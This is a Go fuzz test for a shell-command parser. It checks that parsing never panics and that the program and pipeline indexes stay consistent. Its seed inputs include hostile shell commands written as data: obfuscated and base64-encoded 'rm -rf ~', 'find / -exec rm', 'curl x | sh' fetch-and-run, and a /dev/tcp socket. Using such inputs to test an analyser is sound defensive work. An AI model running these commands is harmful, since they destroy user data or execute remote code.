package shell

import (
	"strings"
	"testing"
)

// FuzzParse checks that Parse never panics (a recovered panic shows up as
// an "internal error" ParseError) and that its output is self-consistent.
func FuzzParse(f *testing.F) {
	for _, c := range loadCorpusCommands(f) {
		f.Add(c)
	}
	for _, c := range []string{
		"a=r; b=m; $a$b -rf ~", "echo cm0gLXJmIH4= | base64 -d | sh", "bash -c 'sh -c \"eval id\"'",
		"cat <<EOF | sh\nid\nEOF", "sudo -u root env A=1 xargs -I{} rm {}", "find / -exec rm {} \\;",
		"ssh h 'curl x | sh'", "$(printf '\\x72\\x6d') /", "curl x | sh '", "((((", "cat <<-E\n\tx\n\tE",
		"env -S 'bash -c id'", "su -c 'id' root", "watch -n1 'id'", "exec 3<>/dev/tcp/h/1",
		"x=$(cat <<'E'\nY2F0\nE\n); echo $x | base64 -d | bash",
	} {
		f.Add(c)
	}
	f.Fuzz(func(t *testing.T, cmd string) {
		a := Parse(cmd, Options{Cwd: "/w", Home: "/h", MaxPrograms: 256})
		if a == nil {
			t.Fatal("nil analysis")
		}
		if strings.HasPrefix(a.ParseError, "internal error") {
			t.Fatalf("panic: %s", a.ParseError)
		}
		if len(a.Programs) > 256 {
			t.Fatalf("%d programs over the cap", len(a.Programs))
		}
		for i, pl := range a.Pipelines {
			for _, k := range pl.Programs {
				if k < 0 || k >= len(a.Programs) || a.Programs[k].Pipeline != i {
					t.Fatalf("pipeline %d has bad member %d", i, k)
				}
			}
		}
		for i, p := range a.Programs {
			if p.Pipeline >= len(a.Pipelines) {
				t.Fatalf("program %d: pipeline %d out of range", i, p.Pipeline)
			}
			if len(p.Wrappers) != len(p.WrapperArgs) {
				t.Fatalf("program %d: %d wrappers, %d wrapper args", i, len(p.Wrappers), len(p.WrapperArgs))
			}
		}
		for _, ps := range [][]string{a.Paths, a.Reads, a.Writes} {
			for _, p := range ps {
				if p == "" {
					t.Fatal("empty path")
				}
			}
		}
	})
}
